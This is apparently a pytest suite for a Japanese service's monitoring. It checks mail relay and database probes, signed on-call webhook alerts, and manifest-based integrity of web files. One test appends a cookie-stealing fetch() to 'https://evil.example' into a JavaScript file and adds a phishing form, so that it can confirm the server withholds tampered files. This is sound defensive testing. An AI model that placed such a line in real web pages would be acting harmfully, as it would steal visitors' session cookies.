"""Issue 12 item 7: monitoring and alerts (SLA-7, CHK-3, CHK-5, MARK-2-1-4). Built-in probes run
every few hundred milliseconds here ([ops] monitor_interval_ms); a failure alerts the on-call list
at once by e-mail (the real SMTP sink) and by a signed webhook (a local receiver), once until it
recovers, and the recovery is told the same way. The web UI's files are checked against the
build's manifest and a changed file is withheld."""
import hashlib
import hmac
import http.server
import json
import os
import shutil
import subprocess
import threading
import time

from aiosmtpd.controller import Controller

from conftest import DRIVER, ROOT, free_port, unique
from test_mail import Sink
from test_ops import sink_text

SECRET = "6f6e63616c6c2d776562686f6f6b2d7365637265742d666f722d746573747321"


class Hook(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.server.got.append((dict(self.headers), body))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *a):
        pass


def receiver():
    hook = http.server.HTTPServer(("127.0.0.1", 0), Hook)
    hook.got = []
    threading.Thread(target=hook.serve_forever, daemon=True).start()
    return hook


def events(hook, probe):
    """The (event, body) pairs the receiver got for probe, each signature checked."""
    out = []
    for headers, body in list(hook.got):
        ts = headers["X-Anshin-Timestamp"]
        want = hmac.new(bytes.fromhex(SECRET), (ts + ".").encode() + body, hashlib.sha256)
        assert headers["X-Anshin-Signature"] == "sha256=" + want.hexdigest()
        doc = json.loads(body)
        if doc["probe"] == probe:
            assert headers["X-Anshin-Event"] == doc["event"]
            out.append((doc["event"], doc))
    return out


def wait_events(hook, probe, n, timeout=15):
    deadline = time.time() + timeout
    while time.time() < deadline:
        got = events(hook, probe)
        if len(got) >= n:
            return got
        time.sleep(0.05)
    raise AssertionError("webhook got %r for %s" % (events(hook, probe), probe))


def monitored(make_server, relay_port, hook, oncall, **extra):
    env = {"ANSHIN_MAIL_RELAY": "smtp://127.0.0.1:%d" % relay_port,
           "ANSHIN_MAIL_POLL_INTERVAL_MS": "100",
           "ANSHIN_OPS_ONCALL_EMAILS": oncall,
           "ANSHIN_OPS_ONCALL_WEBHOOK": "http://127.0.0.1:%d/oncall" % hook.server_port,
           "ANSHIN_OPS_ONCALL_WEBHOOK_SECRET": SECRET,
           "ANSHIN_OPS_MONITOR_INTERVAL_MS": "250",
           # Memory and disk on a shared test machine are not this test's subject.
           "ANSHIN_OPS_MONITOR_MEMORY_MIN_FREE_PERCENT": "0",
           "ANSHIN_OPS_MONITOR_DISK_MIN_FREE_PERCENT": "0",
           "ANSHIN_WEBHOOK_ALLOW_PRIVATE_TARGETS": "true"}
    env.update(extra)
    srv = make_server(env=env)
    srv.create_staff("admin")
    return srv.start()


def probe_state(admin, srv, name):
    r = admin.get(srv.url + "/api/v1/ops/monitor")
    assert r.status_code == 200, r.text
    return next((p for p in r.json()["probes"] if p["name"] == name), None)


def sink_on(port):
    """The SMTP sink on a chosen port: the relay the server was told about comes up."""
    s = Sink()
    s.port = port
    s.controller = Controller(s, hostname="127.0.0.1", port=port)
    return s.start()


def test_mail_relay_down_alerts_once_then_recovers(make_server):
    """SLA-7, CHK-5: the mail relay points at a closed port. The on-call webhook gets one signed
    alert at once (not one per round), the probe's state and failed samples are kept, a report
    lands in the incident queue as a draft; when the relay comes up the alert mail queued in the
    outbox arrives in the real SMTP sink, followed by a recovery message by mail and webhook."""
    port = free_port()
    hook = receiver()
    oncall = unique("oncall") + "@example.jp"
    srv = monitored(make_server, port, hook, oncall, ANSHIN_OPS_MONITOR_OPEN_REPORT="true")
    admin = srv.login("admin")
    sink = None
    try:
        got = wait_events(hook, "mail_relay", 1)
        assert got[0][0] == "monitor.alert" and got[0][1]["ok"] is False
        assert "refuses" in got[0][1]["detail"]
        time.sleep(1.0)  # four more rounds, still failing: no second alert
        assert [e for e, _ in events(hook, "mail_relay")] == ["monitor.alert"]
        state = probe_state(admin, srv, "mail_relay")
        assert state["ok"] is False and state["alerted_at"] and state["report_id"]
        assert state["summary"] == "メール中継サーバーに接続できません"
        en = admin.get(srv.url + "/api/v1/ops/monitor", headers={"Accept-Language": "en"}).json()
        assert any(p["summary"] == "the mail relay refuses connections" for p in en["probes"])
        history = admin.get(srv.url + "/api/v1/ops/monitor").json()["failures"]
        assert len([h for h in history if h["probe"] == "mail_relay"]) >= 3
        reports = admin.get(srv.url + "/api/v1/incidents", params={"status": "reported"}).json()
        assert any(i["id"] == state["report_id"] for i in reports["items"])
        # Only the failing probe alerted; the database answered all along.
        assert events(hook, "database") == []
        assert probe_state(admin, srv, "database")["ok"] is True

        sink = sink_on(port)
        for m in srv.outbox(oncall):  # the address is sealed: found through the opened outbox
            srv.sql("UPDATE mail_outbox SET next_attempt_at = 0 WHERE id = ?", m["id"])
        subject, body = sink_text(sink, oncall, "障害検知")
        assert "メール中継サーバー" in subject and "mail_relay" in body and "運用担当者" in body
        assert "内容：メール中継サーバーに接続できません" in body
        got = wait_events(hook, "mail_relay", 2)
        assert [e for e, _ in got] == ["monitor.alert", "monitor.recovered"]
        subject, body = sink_text(sink, oncall, "復旧")
        assert "メール中継サーバー" in subject and "復旧日時" in body
        assert probe_state(admin, srv, "mail_relay")["ok"] is True
        alerts = [e for e in sink.envelopes if oncall in e.rcpt_tos]
        assert len(alerts) == 2
    finally:
        if sink:
            sink.stop()
        hook.shutdown()


def test_database_failure_alerts_by_webhook_at_once_and_mail_after(make_server):
    """SLA-7, CHK-5: the database stops answering (SQLite: its file replaced by one that is not a
    database). The webhook alert goes at once without the database; the alert mail waits for the
    outbox, and both it and the recovery message reach the SMTP sink once the database is back.
    (On PostgreSQL the shared test server cannot be stopped; the same code path is covered by
    the mail-relay test there.)"""
    if DRIVER != "sqlite":
        import pytest
        pytest.skip("the shared PostgreSQL of the tests cannot be stopped")
    sink = Sink().start()
    hook = receiver()
    oncall = unique("oncall") + "@example.jp"
    srv = monitored(make_server, sink.port, hook, oncall)
    try:
        time.sleep(0.6)  # a round with everything passing
        path = os.path.join(srv.dir, "anshin.db")
        os.rename(path, path + ".away")
        with open(path, "wb") as f:
            f.write(b"this is not a database" * 200)
        try:
            got = wait_events(hook, "database", 1)
            assert got[0][0] == "monitor.alert"
            assert "database does not answer" in got[0][1]["detail"]
            time.sleep(0.6)
            assert len(events(hook, "database")) == 1
        finally:
            os.rename(path + ".away", path)
        got = wait_events(hook, "database", 2)
        assert [e for e, _ in got] == ["monitor.alert", "monitor.recovered"]
        subject, body = sink_text(sink, oncall, "障害検知")
        assert "データベース" in subject
        subject, _ = sink_text(sink, oncall, "復旧")
        assert "データベース" in subject
    finally:
        sink.stop()
        hook.shutdown()


def test_changed_web_file_is_withheld_and_alerted(make_server, tmp_path):
    """MARK-2-1-4: the build's manifest (scripts/web_manifest.cmake) lists the SHA-256 of every
    file under web/. A file changed after the build is refused with a 500 problem (logged) while
    the others are served; the periodic check alerts by webhook, naming the file, and an added
    file counts too."""
    web = tmp_path / "web"
    shutil.copytree(os.path.join(ROOT, "web"), web)
    manifest = tmp_path / "web.manifest"
    subprocess.run(["cmake", "-DWEB=%s" % web, "-DOUT=%s" % manifest, "-P",
                    os.path.join(ROOT, "scripts", "web_manifest.cmake")], check=True)
    hook = receiver()
    srv = monitored(make_server, free_port(), hook, "",
                    ANSHIN_WEB_ROOT=str(web), ANSHIN_WEB_MANIFEST=str(manifest),
                    ANSHIN_MAIL_RELAY="")
    try:
        assert srv_get(srv, "/status").status_code == 200
        assert srv_get(srv, "/js/shell.js").status_code == 200
        with open(web / "js" / "shell.js", "a") as f:
            f.write("\nfetch('https://evil.example/steal?c=' + document.cookie);\n")
        r = srv_get(srv, "/js/shell.js")
        assert r.status_code == 500
        assert r.headers["Content-Type"].startswith("application/problem+json")
        assert r.json()["type"].endswith("/web-file-changed")
        assert "evil" not in r.text
        assert srv_get(srv, "/status").status_code == 200
        assert "web file differs from the manifest" in srv.read_log()
        got = wait_events(hook, "web_files", 1)
        assert got[0][0] == "monitor.alert" and "js/shell.js" in got[0][1]["detail"]
        (web / "phish.html").write_text("<form action='https://evil.example'>")
        assert srv_get(srv, "/phish").status_code == 500
    finally:
        hook.shutdown()


def srv_get(srv, path):
    import requests
    return requests.get(srv.url + path, timeout=5)


def test_web_file_rewritten_with_same_size_and_mtime_is_withheld(make_server, tmp_path):
    """MARK-2-1-4: the server remembers a file's verdict by (inode, size, mtime, ctime) instead of
    hashing it on every request. A file rewritten in place with the same size, and its mtime put
    back (as `touch -d` would), still changes its ctime: it is checked again and refused, and the
    bytes it was approved with are never sent for it."""
    web = tmp_path / "web"
    shutil.copytree(os.path.join(ROOT, "web"), web)
    manifest = tmp_path / "web.manifest"
    subprocess.run(["cmake", "-DWEB=%s" % web, "-DOUT=%s" % manifest, "-P",
                    os.path.join(ROOT, "scripts", "web_manifest.cmake")], check=True)
    srv = make_server(env={"ANSHIN_WEB_ROOT": str(web), "ANSHIN_WEB_MANIFEST": str(manifest)})
    srv.create_staff("admin")
    srv.start()
    target = web / "js" / "i18n.js"
    original = target.read_bytes()
    for _ in range(3):  # the first answer checks the file, the next ones reuse the verdict
        r = srv_get(srv, "/js/i18n.js")
        assert r.status_code == 200 and r.content == original
    st = os.stat(target)
    i = original.index(b"ja")
    changed = original[:i] + b"xx" + original[i + 2:]
    assert len(changed) == len(original)
    time.sleep(0.02)  # a later ctime even on a coarse clock
    with open(target, "r+b") as f:  # in place: the same inode
        f.write(changed)
    os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))
    after = os.stat(target)
    assert (after.st_ino, after.st_size, after.st_mtime_ns) == (st.st_ino, st.st_size, st.st_mtime_ns)
    r = srv_get(srv, "/js/i18n.js")
    assert r.status_code == 500
    assert r.json()["type"].endswith("/web-file-changed")
    assert b"xx" not in r.content
    target.write_bytes(original)  # put back: served again
    r = srv_get(srv, "/js/i18n.js")
    assert r.status_code == 200 and r.content == original
